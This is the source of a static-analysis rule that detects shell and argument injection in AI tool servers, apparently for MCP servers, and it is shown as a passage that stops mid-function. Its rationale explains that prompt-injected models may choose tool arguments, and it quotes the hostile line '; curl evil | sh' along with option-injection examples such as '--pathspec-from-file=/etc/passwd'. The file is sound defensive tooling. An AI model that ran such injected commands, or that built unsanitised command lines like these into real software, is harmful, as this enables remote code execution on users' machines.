import { createRule, hasMark, leadingText, skipOuter, stringParts, ts, type RuleContext, type TaintHit } from "../src/rule-api/index.js";
import { attacker, describeSource, signedInGrade, toolOf } from "../src/rule-api/describe-source.js";
import { perCaller } from "../src/rule-api/per-caller.js";
import { ArgvLists, UNKNOWN, unfiltered, type Elements } from "../src/rule-api/sinks/argv-lists.js";
import { processLaunch, remoteCommand, shellScript, type ProcessLaunch, type RemoteCommand } from "../src/rule-api/sinks/shell-sinks.js";

/** Programs with options that run commands or write files: an argument starting with "-" takes them over. */
const OPTION_SENSITIVE_PROGRAMS = new Set([
  "git", "hg", "ssh", "scp", "sftp", "rsync", "tar", "find", "xargs", "curl", "wget", "zip", "unzip", "7z", "sed", "awk", "gawk",
  "perl", "python", "python3", "node", "ruby", "php", "bash", "sh", "zsh", "env", "npm", "npx", "yarn", "pnpm", "bun", "deno",
  "docker", "podman", "ffmpeg", "gh", "psql", "mysql", "sqlite3", "chromium", "google-chrome", "pip", "pip3", "uv", "uvx", "make",
  "kubectl", "helm", "rg",
]);

/** Programs that read an operand naming a host (`host:path`) as a file there. */
const REMOTE_OPERAND_PROGRAMS: ReadonlySet<string> = new Set(["scp", "rsync"]);

/** Options that take the next argument as their value whatever it starts with (git's parse-options, Go's pflag). */
const CONTAINER_VALUE_OPTIONS: ReadonlySet<string> = new Set([
  "--name", "-w", "--workdir", "-u", "--user", "--network", "--file", "--publish", "--tail", "--env", "--env-file", "--volume", "--mount", "--tag",
  "--platform", "--build-arg", "--label", "--format", "--since", "--until", "--filter", "--memory", "--cpus", "--restart", "--hostname", "--log-driver",
]);
const KUBE_VALUE_OPTIONS: ReadonlySet<string> = new Set(["-n", "--namespace", "-o", "--output", "-l", "--selector", "-c", "--container", "--context", "--revision", "--version"]);
const VALUE_OPTIONS: Record<string, ReadonlySet<string>> = {
  git: new Set([
    "-C", "-c", "--git-dir", "--work-tree", "--namespace", "-m", "--message", "-b", "-B", "--branch", "-n", "--max-count", "--author", "--committer", "--depth", "--shallow-since",
    "--origin", "-o", "--jobs", "-j", "--since", "--until", "--after", "--before", "--grep", "--format", "--pretty", "--date", "--onto", "--strategy", "-s",
    "--strategy-option", "-X", "--sort", "--contains", "--points-at", "--abbrev", "--unified", "-U", "--mainline",
  ]),
  docker: CONTAINER_VALUE_OPTIONS,
  podman: CONTAINER_VALUE_OPTIONS,
  gh: new Set([
    "--title", "--body", "--body-file", "--state", "--label", "--assignee", "--milestone", "--repo", "--base", "--head", "--limit", "--search", "--json",
    "--jq", "--template", "--color", "--description", "--author", "--method", "--field", "--raw-field", "--header", "--reviewer", "--project", "--notes",
    "--notes-file", "--comment", "--branch", "--ref", "--add-label", "--remove-label", "--add-assignee", "--remove-assignee", "--add-reviewer",
    "--remove-reviewer", "--add-project", "--remove-project", "-R", "-L", "-S", "-q", "-X", "-H", "-A", "-t", "-T", "-b", "-B", "-l", "-F",
  ]),
  kubectl: KUBE_VALUE_OPTIONS,
  helm: KUBE_VALUE_OPTIONS,
  rg: new Set(["-e", "--regexp", "-g", "--glob", "-t", "--type", "-T", "--type-not", "-m", "--max-count"]),
  tar: new Set(["-f", "--file", "-C", "--directory", "-T", "--files-from", "-X", "--exclude-from"]),
  curl: new Set(["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-H", "--header", "-X", "--request", "-A", "--user-agent", "-e", "--referer", "-u", "--user", "-b", "--cookie", "-F", "--form", "-m", "--max-time", "--url"]),
};

/** docker's short options that take a value only under some commands: `docker build -f` is --file, `docker logs -f` --follow. */
const RUN_VALUE_SHORTS: ReadonlySet<string> = new Set(["-e", "-v", "-p", "-m", "-l", "-h"]);
const CONTAINER_COMMAND_VALUE_OPTIONS: Record<string, ReadonlySet<string>> = {
  run: RUN_VALUE_SHORTS,
  create: RUN_VALUE_SHORTS,
  "container run": RUN_VALUE_SHORTS,
  "container create": RUN_VALUE_SHORTS,
  exec: new Set(["-e"]),
  "container exec": new Set(["-e"]),
  build: new Set(["-f", "-t"]),
  "image build": new Set(["-f", "-t"]),
  "buildx build": new Set(["-f", "-t"]),
  logs: new Set(["-n"]),
  "container logs": new Set(["-n"]),
  ps: new Set(["-f", "-n"]),
  images: new Set(["-f"]),
  compose: new Set(["-f", "-p"]),
};
/** Options that take a value only under some commands, keyed by the command's words: `gh issue list -s` is --state, `gh pr merge -s` --squash. */
const COMMAND_VALUE_OPTIONS: Record<string, Record<string, ReadonlySet<string>>> = {
  gh: {
    "issue list": new Set(["-a", "-m", "-s"]),
    "issue create": new Set(["-a", "-m", "-p"]),
    "issue edit": new Set(["-m"]),
    "issue close": new Set(["-c"]),
    "pr list": new Set(["-a", "-s"]),
    "pr create": new Set(["-a", "-m", "-p", "-r"]),
    "pr edit": new Set(["-m"]),
    "pr close": new Set(["-c"]),
    "label create": new Set(["-c", "-d"]),
    "label edit": new Set(["-c", "-d", "-n"]),
    "release create": new Set(["-n"]),
    api: new Set(["-f", "-p"]),
  },
  docker: CONTAINER_COMMAND_VALUE_OPTIONS,
  podman: CONTAINER_COMMAND_VALUE_OPTIONS,
};

const GIT_LOG_VALUE_OPTIONS: ReadonlySet<string> = new Set([
  "-n", "--max-count", "--skip", "--since", "--after", "--until", "--before", "--author", "--committer", "--grep", "--format", "--pretty", "--date",
  "-L", "-S", "-G", "-O", "-U", "--unified", "--encoding",
]);
const GIT_STRATEGY_VALUE_OPTIONS = ["--strategy", "-X", "--strategy-option"];
/** Programs whose listed commands name all their value options: `git grep -n` is a flag, so the pattern after it is read as an option. */
const EXACT_COMMAND_VALUE_OPTIONS: Record<string, { own: ReadonlySet<string>; commands: Record<string, ReadonlySet<string>> }> = {
  git: {
    own: new Set(["-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix"]),
    commands: {
      log: GIT_LOG_VALUE_OPTIONS,
      show: GIT_LOG_VALUE_OPTIONS,
      shortlog: GIT_LOG_VALUE_OPTIONS,
      "rev-list": GIT_LOG_VALUE_OPTIONS,
      diff: new Set(["-U", "--unified", "-S", "-G", "-O", "--diff-filter", "--src-prefix", "--dst-prefix"]),
      grep: new Set(["-e", "-f", "-A", "-B", "-C", "-m", "--max-count", "--max-depth", "--threads"]),
      blame: new Set(["-L", "-S", "--contents", "--date", "--ignore-rev", "--ignore-revs-file"]),
      commit: new Set(["-m", "--message", "-F", "--file", "-C", "--reuse-message", "-c", "--reedit-message", "--author", "--date", "--fixup", "--squash", "-t", "--template", "--cleanup"]),
      tag: new Set(["-m", "--message", "-F", "--file", "-u", "--local-user", "--sort", "--contains", "--no-contains", "--points-at", "--format"]),
      checkout: new Set(["-b", "-B", "--orphan"]),
      switch: new Set(["-c", "-C", "--create", "--force-create", "--orphan"]),
      branch: new Set(["-u", "--set-upstream-to", "--contains", "--no-contains", "--merged", "--no-merged", "--sort", "--format", "--points-at"]),
      clone: new Set(["-b", "--branch", "-o", "--origin", "--depth", "--shallow-since", "--shallow-exclude", "-j", "--jobs", "-c", "--config", "--reference", "--separate-git-dir", "--template", "--filter"]),
      fetch: new Set(["--depth", "--deepen", "--shallow-since", "--shallow-exclude", "-j", "--jobs", "-o", "--server-option", "--refmap", "--negotiation-tip"]),
      pull: new Set(["--depth", "--deepen", "--shallow-since", "--shallow-exclude", "-j", "--jobs", "-o", "--server-option", "-s", ...GIT_STRATEGY_VALUE_OPTIONS]),
      push: new Set(["-o", "--push-option", "--repo"]),
      merge: new Set(["-m", "-F", "--file", "-s", "--into-name", "--cleanup", ...GIT_STRATEGY_VALUE_OPTIONS]),
      rebase: new Set(["--onto", "-s", ...GIT_STRATEGY_VALUE_OPTIONS]),
      "cherry-pick": new Set(["-m", "--mainline", ...GIT_STRATEGY_VALUE_OPTIONS]),
      revert: new Set(["-m", "--mainline", ...GIT_STRATEGY_VALUE_OPTIONS]),
      stash: new Set(["-m", "--message"]),
      "ls-files": new Set(["-x", "--exclude", "-X", "--exclude-from"]),
    },
  },
};

/** git commands none of whose options writes a file or runs a program: an injected option changes only what they print. */
const READ_ONLY_GIT_COMMANDS = new Set(["merge-base", "cherry", "rev-parse", "show-ref", "ls-tree", "describe", "name-rev", "check-ignore", "check-attr"]);
/**
 * git commands with no option that runs a program or writes a file the caller names: an injected option widens what
 * they do (`--force`, `-D`), or reads a file into their input or errors (`--pathspec-from-file`, `-F`).
 */
const OPTION_ONLY_GIT_COMMANDS = new Set(["add", "branch", "status", "stash", "remote", "tag", "switch", "checkout", "restore", "rm", "mv", "reset", "commit", "ls-files", "show-branch"]);
/** Options whose value the program runs as a command (git rebase --exec, ssh -o ProxyCommand=…, find -exec). */
const COMMAND_OPTIONS: Record<string, ReadonlySet<string>> = {
  git: new Set(["--exec", "--upload-pack", "--receive-pack", "--extcmd"]),
  ssh: new Set(["-o"]),
  scp: new Set(["-o", "-S"]),
  sftp: new Set(["-o", "-S"]),
  find: new Set(["-exec", "-execdir", "-ok", "-okdir"]),
  tar: new Set(["--to-command", "--checkpoint-action", "--use-compress-program", "-I", "--rsh-command", "--info-script", "--new-volume-script"]),
  rsync: new Set(["-e", "--rsh", "--rsync-path"]),
  zip: new Set(["-TT", "--unzip-command"]),
  helm: new Set(["--post-renderer"]),
  rg: new Set(["--pre"]),
};

/**
 * Launchers whose own options end at the first operand (the package, script or module they run): what follows is
 * that program's arguments, and nothing says which of its options are dangerous. Each lists its options that take a
 * value, and `ends` those after which the next element is the operand whatever it looks like (`python -m <module>`).
 */
const LAUNCHERS: Record<string, { values: ReadonlySet<string>; ends?: ReadonlySet<string>; subcommands?: ReadonlySet<string> }> = {
  npx: { values: new Set(["-p", "--package", "-w", "--workspace"]) },
  pnpx: { values: new Set(["-p", "--package"]) },
  bunx: { values: new Set(["-p", "--package"]) },
  uvx: { values: new Set(["--from", "--with", "--python", "-p", "--index", "--index-url", "--default-index"]) },
  npm: { values: new Set(["-p", "--package", "-w", "--workspace"]), subcommands: new Set(["exec", "x"]) },
  pnpm: { values: new Set(["-p", "--package"]), subcommands: new Set(["dlx", "exec"]) },
  yarn: { values: new Set(["-p", "--package"]), subcommands: new Set(["dlx", "exec"]) },
  bun: { values: new Set(["-p", "--package"]), subcommands: new Set(["x"]) },
  node: { values: new Set(["-r", "--require", "--import", "--loader", "--experimental-loader", "-C", "--conditions", "--input-type", "--title", "--env-file"]) },
  python: { values: new Set(["-W", "-X", "-Q"]), ends: new Set(["-m"]) },
  python3: { values: new Set(["-W", "-X", "-Q"]), ends: new Set(["-m"]) },
};

/** Packages that open a URL or file with the system's default handler (`start` through a shell on Windows, xdg-open elsewhere). */
const URL_OPENERS = new Set(["open", "opn", "better-opn"]);

/** Container commands whose options end at the container or image: what follows is the command run inside it. */
const CONTAINER_RUNNERS = new Set(["docker", "podman", "nerdctl"]);
const RUN_SUBCOMMANDS = new Set(["run", "exec", "create"]);
/** Their options that take no value, so the element after one can be the container or image. */
const CONTAINER_FLAGS = new Set(["-d", "--detach", "-i", "--interactive", "-t", "--tty", "-it", "-ti", "--rm", "--privileged", "--init", "-P", "--publish-all", "--read-only", "-q", "--quiet"]);

export default createRule({
  id: "no-shell-injection",
  meta: {
    description: "Keep tool arguments out of shell command lines and out of the option position of programs",
    severity: "critical",
    confidence: "high",
    checklist: ["TOOL-1", "TOOL-3", "API-1", "TOOL-2"],
    cwe: ["CWE-78", "CWE-88"],
    messages: {
      shell: "{{source}} reaches {{api}}, which hands it to a shell: {{who}} can run any command on the host.",
      configuredShell:
        "{{source}} reaches {{api}}, which hands it to a shell when `{{setting}}` turns the shell on: with that setting, {{who}} can run any command on the host. Keep the shell off for commands built from tool arguments, or reject shell metacharacters before running them with one.",
      program: "{{source}} chooses the program {{api}} runs: {{who}} can run any binary on the host.",
      remoteShell: "{{source}} is written into a command line that {{api}} sends to the shell of a remote host: {{who}} can add `;` or `$(…)` and run any command there. Quote the value for the remote shell (wrap it in single quotes, each ' written as '\\''), or validate it with an anchored allowlist.",
      remoteShellBeside: "{{source}} is written into the command line {{api}} sends to the shell of a remote host, beside the command the model writes: a newline or `;` in it starts a command of its own, which the tool's checks, logs and elevated session treat as part of the requested one. Quote the value for the remote shell, or refuse newlines and shell metacharacters in it.",
      terminalShell: "{{source}} is written into a command line typed into a terminal ({{api}}): {{who}} can add `;`, a newline or `$(…)` and run any command in that shell. Quote the value for the shell (wrap it in single quotes, each ' written as '\\''), or validate it with an anchored allowlist.",
      terminalShellBeside: "{{source}} is written into the command line typed into a terminal ({{api}}), beside the command the model writes: a newline or `;` in it starts a command of its own, which the tool's checks and logs treat as part of the requested one. Quote the value for the shell, or refuse newlines and shell metacharacters in it.",
      splitArguments: "{{source}} is written into a command line that is then split on spaces into the argument list of {{api}}: a value with spaces in it becomes several arguments, so {{who}} can add options and operands of its own. Pass the value as one element of the argument list, or refuse whitespace and a leading \"-\" in it.",
      commandOption: "{{source}} is the value of `{{option}}`, which `{{program}}` runs as a command ({{api}}): {{who}} can run any command on the machine. Do not let the model choose this value; offer fixed choices instead.",
      optionInjection: "{{source}} can start with \"-\" in the argument list of `{{program}}` ({{api}}): no option there runs a program, but one can widen what the command does (`--force`, `-D`) or read a file into its input and errors (`--pathspec-from-file=/etc/passwd`); put \"--\" before it or reject values starting with \"-\".",
      argumentInjection: "{{source}} can start with \"-\" in the argument list of `{{program}}` ({{api}}), where an option can run commands or overwrite files; put \"--\" before it or reject values starting with \"-\".",
      remoteOperand: "{{source}} is a whole operand of `{{program}}` ({{api}}) beside the remote path the code names, and {{program}} reads `host:path` as a file on that host, after \"--\" too: {{who}} can copy files to or from any host this machine can reach, past any check of the host the code names. Make local paths absolute (path.resolve) or reject values containing \":\".",
      metacharBlocklist: "{{source}} reaches {{api}}, which hands it to a shell. Characters that chain or redirect commands are refused, but spaces are not, so {{who}} can still add options and arguments to the command. Run the program with execFile and pass the value as one argument, or refuse spaces and a leading \"-\" too.",
      appleScript: "{{source}} is written into an AppleScript that osascript runs ({{api}}): a quote ends the string it sits in, and `do shell script` lets {{who}} run any command as the user. Pass values as arguments (`osascript -e 'on run argv' … -- value`, read with `item 1 of argv`) or escape backslashes and double quotes before quoting.",
      openUrl: "{{source}} is opened with the system's URL handler ({{api}}): on Windows it passes through a shell, and a file: or custom-scheme URL starts programs, so {{who}} can run commands on the user's machine. An http(s) check alone is not enough: PowerShell runs `$(…)` inside `https://$(calc)`. Allow only http(s) URLs and percent-encode their host, path, query and fragment before opening (strict-url-sanitise does both).",
      schemaNumber: "{{source}} is spliced into a command line that {{api}} hands to a shell. Its schema makes it a number, so it cannot inject today, but only the schema stands between the model and the shell: run the program with execFile and an argument list.",
    },
    docs: {
      rationale:
        "A tool's arguments are chosen by a model that any web page, issue or document can prompt-inject. A command line built from them and run by a shell (exec, execSync, spawn with shell: true, execaCommand, shelljs.exec) lets an injected `; curl evil | sh` run on the user's machine. Without a shell, a value that starts with `-` still becomes an option (git --upload-pack, find -exec, curl -o). Opening a URL with the system's handler (the open package) runs whatever its scheme names; an MCP client that opens the authorization URL a remote server sends was exploited this way (CVE-2025-6514).",
      remediation:
        "Run the program without a shell and pass each value as its own argument: `execFile('git', ['log', '--', ref])`. Put `--` before values that are not options, or validate them with an anchored allowlist (`z.string().regex(/^[\\w.-]+$/)`, `z.enum([...])`). Never let the model choose the program.",
      examples: {
        bad: [
          'import { exec } from "node:child_process";',
          'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";',
          'import { z } from "zod";',
          'const server = new McpServer({ name: "git", version: "1.0.0" });',
          'server.tool("git_log", { ref: z.string() }, async ({ ref }) => {',
          "  exec(`git log ${ref}`, () => {});",
          '  return { content: [{ type: "text", text: "started" }] };',
          "});",
        ].join("\n"),
        good: [
          'import { execFile } from "node:child_process";',
          'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";',
          'import { z } from "zod";',
          'const server = new McpServer({ name: "git", version: "1.0.0" });',
          'server.tool("git_log", { ref: z.string().regex(/^[\\w.\\/-]+$/) }, async ({ ref }) => {',
          '  execFile("git", ["log", "--", ref], () => {});',
          '  return { content: [{ type: "text", text: "started" }] };',
          "});",
        ].join("\n"),
      },
    },
    references: ["https://cwe.mitre.org/data/definitions/78.html", "https://cwe.mitre.org/data/definitions/88.html", "https://nodejs.org/api/child_process.html#spawning-bat-and-cmd-files-on-windows"],
  },
  create(context) {
    // Argument elements already reported: a wrapper that launches through Bun.spawn or spawn reports each once.
    const reported = new Set<ts.Node>();
    const check = (node: ts.CallExpression | ts.NewExpression | ts.TaggedTemplateExpression) => {
      const launch = processLaunch(node, context);
      if (launch) inspect(launch, context, reported);
      else if (ts.isCallExpression(node)) {
        const remote = remoteCommand(node, context);
        if (remote) inspectRemote(remote, context);
        else openedUrl(node, context);
      }
    };
    return { CallExpression: check, NewExpression: check, TaggedTemplateExpression: check };
  },
});

function inspect(launch: ProcessLaunch, context: RuleContext, reported: Set<ts.Node>): void {
  if (launch.shellCommand) {
    const open = [...context.taint(launch.shellCommand.expr), ...(launch.shellArgs ? context.taint(launch.shellArgs) : [])].filter(unsanitized);
    const first = open[0];
    // Metacharacters refused but spaces let through: the command cannot be chained, but options can be added.
    const spaced = first ? undefined : context.taint(launch.shellCommand.expr).find((h) => !safeEverywhere(h) && h.taint.marks.some((m) => m.kind === "shell-quoted" && m.detail === "metachar") && !h.taint.marks.some((m) => m.kind === "shell-quoted" && m.detail !== "metachar"));
    if (spaced) {
      context.report({ node: launch.call, messageId: "metacharBlocklist", data: { source: describeSource(spaced), who: attacker(spaced, context), api: launch.api }, severity: "medium", confidence: "medium", trace: context.trace(spaced, launch.shellCommand.expr, `runs a shell command (${launch.api})`), ...toolOf(spaced, launch.call, context), ...signedInGrade(spaced, context) });
      return;
    }
    // osascript -e '<script>' with the shell's quoting right: the AppleScript inside can still be broken out of.
    if (!first && reportAppleScript(launch, context)) return;
    if (first) {
      // A shell that a setting turns on is off in a default install: the flaw needs that setting.
      const setting = launch.shellSetting;
      for (const hit of perCaller(open)) {
        context.report({
          node: launch.call,
          messageId: setting ? "configuredShell" : "shell",
          data: { source: describeSource(hit), who: attacker(hit, context), api: launch.api, ...(setting ? { setting: setting.getText().slice(0, 60) } : {}) },
          ...(setting ? { severity: "medium" as const, confidence: "medium" as const } : {}),
          trace: context.trace(hit, launch.shellCommand.expr, `runs a shell command (${launch.api})`),
          ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context),
          ...fixFor(launch, context),
          perCaller: true,
        });
      }
      return;
    }
    // The advisories count a shell line built from a schema-checked number as a flaw: report it, low, as hardening.
    const numeric = context.taint(launch.shellCommand.expr).find((h) => hasMark(h.taint, "number", "schema") && !hasMark(h.taint, "const") && !hasMark(h.taint, "regex") && !quoted(h));
    if (numeric) {
      context.report({ node: launch.call, messageId: "schemaNumber", data: { source: describeSource(numeric), api: launch.api }, severity: "low", confidence: "medium", trace: context.trace(numeric, launch.shellCommand.expr, `runs a shell command (${launch.api})`), ...toolOf(numeric, launch.call, context), ...fixFor(launch, context) });
    }
    return;
  }
  if (launch.program) {
    // A fixed first word ("kubectl ..." split on spaces) keeps the program fixed.
    const hit = context.taint(launch.program).find((h) => !safeEverywhere(h) && !hasMark(h.taint, "prefixed"));
    if (hit) {
      context.report({ node: launch.call, messageId: "program", data: { source: describeSource(hit), who: attacker(hit, context), api: launch.api }, trace: context.trace(hit, launch.program, "chooses the program"), ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context) });
      return;
    }
  }
  if (reportAppleScript(launch, context)) return;
  if (launch.program) {
    if (launch.args && splitWords(launch.args, context)) {
      // "kubectl port-forward ${target} 8080:80".split(" "): a value with spaces in it becomes arguments of its own.
      const hit = context.taint(launch.args).find((h) => !safeEverywhere(h) && hasMark(h.taint, "prefixed"));
      if (hit) {
        context.report({ node: launch.call, messageId: "splitArguments", data: { source: describeSource(hit), who: attacker(hit, context), api: launch.api }, severity: "high", confidence: "medium", trace: context.trace(hit, launch.args, `is split into the arguments of ${launch.api}`), ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context) });
        return;
      }
    }
    // `const pm: "npm" | "pnpm" = detect()`: each program the declared type allows; `run(cmd, args)`: each caller's.
    const reader = new ArgvLists(context);
    const ways = launch.args ? reader.launched(launch.program, launch.args, (program) => OPTION_SENSITIVE_PROGRAMS.has(programName(program))) : [];
    for (const way of ways) argumentInjection(launch, way.program, way.lists, !way.caller, reader, context, reported);
    return;
  }
  if (launch.quotedPieces) {
    const program = programOfTemplate(launch.call);
    if (!program) return;
    for (const piece of launch.quotedPieces) {
      const hit = context.taint(piece).find((h) => canStartOption(h));
      if (hit && !precededByDoubleDash(launch.call, piece) && !gluedToText(launch.call, piece)) {
        report(hit, program, piece, launch, context);
        return;
      }
    }
  }
}

/**
 * A command sent over SSH or typed into a terminal: a tool that lets the model write the whole command line runs it by
 * design, so only values written into a line after fixed or other text count; beside a model-written command they add
 * less, so medium.
 */
function inspectRemote(remote: RemoteCommand, context: RuleContext): void {
  const hits = context.taint(remote.command).filter(unsanitized);
  const spliced = hits.find((h) => hasMark(h.taint, "prefixed"));
  if (!spliced) return;
  const beside = hits.some((h) => !hasMark(h.taint, "prefixed"));
  context.report({
    node: remote.call,
    messageId: remote.terminal ? (beside ? "terminalShellBeside" : "terminalShell") : beside ? "remoteShellBeside" : "remoteShell",
    data: { source: describeSource(spliced), who: attacker(spliced, context), api: remote.api },
    ...(beside ? { severity: "medium" as const, confidence: "medium" as const } : {}),
    trace: context.trace(spliced, remote.command, remote.terminal ? `types a command line into the terminal (${remote.api})` : `runs a shell command on the remote host (${remote.api})`),
    ...toolOf(spliced, remote.call, context), ...signedInGrade(spliced, context),
  });
}

/** Reports the first attacker value that can end a string of an AppleScript osascript runs; true when one did. */
function reportAppleScript(launch: ProcessLaunch, context: RuleContext): boolean {
  for (const script of launch.appleScripts ?? []) {
    const hit = context.taint(script).find((h) => !safeEverywhere(h) && !inAppleScriptString(h));
    if (hit) {
      context.report({ node: launch.call, messageId: "appleScript", data: { source: describeSource(hit), who: attacker(hit, context), api: launch.api }, trace: context.trace(hit, script, `becomes part of the AppleScript it runs (${launch.api})`), ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context) });
      return true;
    }
  }
  return false;
}

/** open(url): the system's URL handler runs whatever the scheme names. */
function openedUrl(call: ts.CallExpression, context: RuleContext): void {
  const api = context.api(call.expression);
  const target = call.arguments[0];
  if (!api || !target || !URL_OPENERS.has(api.module) || (api.path.length > 0 && api.path.join(".") !== "default")) return;
  // A URL in a vendor API's answer is the vendor's: the arguments the call carried do not write it.
  const hit = context.taint(target).find((h) => unsanitized(h) && !h.taint.marks.some((m) => m.kind === "url-path" && m.detail === "answer"));
  if (!hit) return;
  context.report({ node: call, messageId: "openUrl", data: { source: describeSource(hit), who: attacker(hit, context), api: api.module }, trace: context.trace(hit, target, `opens it (${api.module})`), ...toolOf(hit, call, context), ...signedInGrade(hit, context) });
}

/** `anyCaller`: the program is the launch's own, so a list any tainted caller passes is its arguments. */
function argumentInjection(launch: ProcessLaunch, program: string, lists: readonly Elements[] | undefined, anyCaller: boolean, reader: ArgvLists, context: RuleContext, reported: Set<ts.Node>): void {
  const name = programName(program);
  if (!launch.args) return;
  const known = lists?.filter((list) => list !== UNKNOWN);
  for (const elements of known ?? []) optionElements(elements.slice(launch.argsFrom ?? 0), name, launch, context, reported);
  if (known?.length || (lists && !lists.length) || !anyCaller) return;
  // git(args) { execFile("git", args) } reached another way than by call (a table, an export): the list each tainted caller passed.
  const list = unfiltered(launch.args);
  const declaration = list && ts.isIdentifier(list) ? context.declaration(list) : undefined;
  if (!list || !declaration || !ts.isParameter(declaration)) return;
  const seen = new Set<ts.Node>();
  for (const hit of context.taint(list)) {
    const passed = hit.taint.trace.filter((step) => step.kind === "call").pop()?.node;
    if (!passed || !ts.isExpression(passed) || seen.has(passed)) continue;
    seen.add(passed);
    for (const elements of reader.of(passed, undefined, 0) ?? []) if (elements !== UNKNOWN) optionElements(elements.slice(launch.argsFrom ?? 0), name, launch, context, reported);
  }
}

/** `/usr/bin/git` or `git.exe` is git. */
function programName(program: string): string {
  return program.split(/[\\/]/).pop()?.replace(/\.(exe|cmd|bat)$/i, "") ?? program;
}

/** An argument list cut out of one string: `line.split(" ")`, the rest of `const [bin, ...rest] = line.split(" ")`, `parts.slice(1)`. */
function splitWords(args: ts.Expression, context: RuleContext, depth = 0): boolean {
  const e = skipOuter(args);
  if (depth > 3) return false;
  if (ts.isCallExpression(e) && ts.isPropertyAccessExpression(e.expression)) {
    const method = e.expression.name.text;
    if (method === "split") return true;
    return (method === "slice" || method === "filter") && splitWords(e.expression.expression, context, depth + 1);
  }
  if (!ts.isIdentifier(e)) return false;
  const decl = context.declaration(e);
  if (decl && ts.isBindingElement(decl) && decl.dotDotDotToken && ts.isArrayBindingPattern(decl.parent) && ts.isVariableDeclaration(decl.parent.parent)) {
    const init = decl.parent.parent.initializer;
    return !!init && splitWords(init, context, depth + 1);
  }
  const init = decl && ts.isVariableDeclaration(decl) && decl.parent.flags & ts.NodeFlags.Const ? decl.initializer : undefined;
  return !!init && splitWords(init, context, depth + 1);
}

function optionElements(elements: readonly ts.Expression[], name: string, launch: ProcessLaunch, context: RuleContext, reported: Set<ts.Node>): void {
  // run({ file: "bash", args: ["-lc", command] }): a list handed to a shell through a wrapper carries a script.
  const script = shellScript(name, elements, context);
  if (script) {
    const hit = context.taint(script).find(unsanitized);
    if (hit && !reported.has(script)) context.report({ node: launch.call, messageId: "shell", data: { source: describeSource(hit), who: attacker(hit, context), api: launch.api }, trace: context.trace(hit, script, `runs a shell command (${name} via ${launch.api})`), ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context) });
    reported.add(script);
    return;
  }
  const commands = COMMAND_OPTIONS[name];
  if (commands && commandOption(elements, name, commands, launch, context, reported)) return;
  const gitCommand = name === "git" ? commandWords(name, elements, context)[0] : undefined;
  if (gitCommand && READ_ONLY_GIT_COMMANDS.has(gitCommand)) return;
  const last = CONTAINER_RUNNERS.has(name) ? containerOperand(elements, context) : LAUNCHERS[name] ? launchedOperand(elements, LAUNCHERS[name], context) : undefined;
  const valueOptions = valueOptionsFor(name, elements, context);
  let previous: string | undefined;
  for (const [i, el] of elements.entries()) {
    if (last !== undefined && i > last) return;
    const text = context.constantText(el);
    if (text === "--" || text === "--end-of-options") return remoteOperand(elements.slice(i + 1), name, launch, context, reported);
    // `git -C <dir>`: the option consumes the value, so it cannot be an option itself.
    const optionValue = previous !== undefined && !!valueOptions && takesValue(previous, valueOptions);
    previous = text;
    if (optionValue) continue;
    const value = ts.isSpreadElement(el) ? el.expression : el;
    const hit = context.taint(value).find((h) => canStartOption(h));
    if (hit && !fixedWords(el, context)) {
      // Another caller's list shares the wrapper's own elements: one finding for each.
      if (!reported.has(value)) report(hit, gitCommand && OPTION_ONLY_GIT_COMMANDS.has(gitCommand) ? `git ${gitCommand}` : name, value, launch, context);
      reported.add(value);
      return;
    }
  }
  remoteOperand(elements, name, launch, context, reported);
}

/**
 * scp and rsync read an operand written `host:path` (or `scp://host/…`) as a file on that host, after "--" too: a
 * whole operand the model writes copies to or from a host it names. A path with a fixed or absolute start stays local.
 */
function remoteOperand(elements: readonly ts.Expression[], name: string, launch: ProcessLaunch, context: RuleContext, reported: Set<ts.Node>): void {
  // Only beside a remote spec the code writes (`${host}:${path}`): where the model names the host anyway, a second one adds nothing.
  const remoteSpec = (el: ts.Expression) => stringParts(el)?.some((p) => p.kind === "text" && p.text.includes(":")) ?? false;
  if (!REMOTE_OPERAND_PROGRAMS.has(name) || !elements.some(remoteSpec)) return;
  for (const el of elements) {
    const value = ts.isSpreadElement(el) ? el.expression : el;
    if (remoteSpec(value)) continue;
    const hit = context.taint(value).find((h) => !safeEverywhere(h) && !hasMark(h.taint, "prefixed") && !hasMark(h.taint, "absolute") && !hasMark(h.taint, "local-spec"));
    if (!hit || reported.has(value)) continue;
    reported.add(value);
    context.report({ node: value, messageId: "remoteOperand", data: { source: describeSource(hit), who: attacker(hit, context), program: name, api: launch.api }, severity: "high", confidence: "medium", trace: context.trace(hit, value, `becomes an operand of ${name}`), ...toolOf(hit, launch.call, context), ...signedInGrade(hit, context) });
    return;
  }
}

/** `mode: "soft" | "hard"`: a value its declared type fixes to words that are not options. */
function fixedWords(el: ts.Expression, context: RuleContext): boolean {
  const words = ts.isSpreadElement(el) ? undefined : context.literalTexts(el);
  return !!words && !words.some((w) => w.startsWith("-"));
}

/** The options that take a value in this call: the program's own, and those its command (`issue list`, `run`) adds. */
function valueOptionsFor(name: string, elements: readonly ts.Expression[], context: RuleContext): ReadonlySet<string> | undefined {
  const base = VALUE_OPTIONS[name];
  const byCommand = COMMAND_VALUE_OPTIONS[name];
  const exact = EXACT_COMMAND_VALUE_OPTIONS[name];
  if (!byCommand && !exact) return base;
  const words = commandWords(name, elements, context);
  const listed = exact?.commands[words[0] ?? ""];
  if (exact && listed) return new Set([...exact.own, ...listed]);
  const extra = byCommand?.[words.join(" ")] ?? byCommand?.[words[0] ?? ""];
  return extra ? new Set([...(base ?? []), ...extra]) : base;
}

/** `git -C <dir> grep -n`: the first two words after the program's own options and their values. */
function commandWords(name: string, elements: readonly ts.Expression[], context: RuleContext): (string | undefined)[] {
  const base = VALUE_OPTIONS[name];
  const texts = elements.map((el) => (ts.isSpreadElement(el) ? undefined : context.constantText(el)));
  let start = 0;
  while (texts[start]?.startsWith("-")) start += base && takesValue(texts[start] as string, base) ? 2 : 1;
  return texts.slice(start, start + 2);
}

/** `--exec=${cmd}` or `["-o", option]`: an attacker value an option runs as a command. True when reported. */
function commandOption(elements: readonly ts.Expression[], program: string, options: ReadonlySet<string>, launch: ProcessLaunch, context: RuleContext, reported: Set<ts.Node>): boolean {
  let previous: string | undefined;
